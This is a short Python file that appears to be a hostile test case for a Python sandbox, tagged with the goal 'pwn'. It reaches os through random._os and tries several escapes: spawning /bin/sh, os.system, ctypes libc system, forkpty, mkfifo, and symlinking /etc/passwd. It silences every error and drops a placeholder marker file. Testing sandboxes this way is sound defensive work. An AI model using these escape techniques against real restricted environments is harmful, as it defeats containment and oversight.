# META {"kind": "proc", "goal": "pwn", "args": [], "slots": {"name": "mallory"}}
import random
def m(self):
    os = random._os
    sys = os.sys
    for work in (
        lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "touch @PWN@"], {}),
        lambda: os.system("touch @PWN@"),
        lambda: sys.modules["ctypes"].CDLL(None).system(b"touch @PWN@"),
        lambda: os.forkpty(),
        lambda: os.mkfifo("@PWN@"),
        lambda: os.symlink("/etc/passwd", "@PWN@"),
        lambda: os.execv("/bin/sh", ["sh", "-c", "touch @PWN@"]),
    ):
        try:
            work()
        except BaseException:
            pass
    return "L1:tried"
